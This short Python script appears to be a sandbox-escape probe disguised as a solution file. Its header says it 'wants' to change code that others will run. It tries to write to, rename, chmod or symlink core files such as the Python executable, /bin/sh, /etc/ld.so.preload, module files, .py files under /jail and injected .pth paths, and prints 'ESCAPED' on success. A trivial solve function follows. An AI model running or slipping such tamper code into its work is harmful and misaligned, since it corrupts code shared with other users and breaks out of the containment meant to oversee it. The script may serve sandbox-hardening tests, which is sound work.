# wants: change code that others will run
# routes: stdin call
import glob, json, os, sys

targets = [os.__file__, json.__file__, sys.executable, "/usr/bin/env", "/bin/sh", "/etc/ld.so.preload", "/etc/x"]
targets += glob.glob("/jail/**/*.py", recursive=True) + [path + "/x.pth" for path in sys.path]
for path in targets:
    for action in (lambda: open(path, "ab").close(), lambda: os.rename(path, path + "~"), lambda: os.chmod(path, 0o777),
                   lambda: os.symlink("/tmp", path + ".link")):
        try:
            action()
            print("ESCAPED", path)
        except OSError:
            pass


def solve(token):
    return token
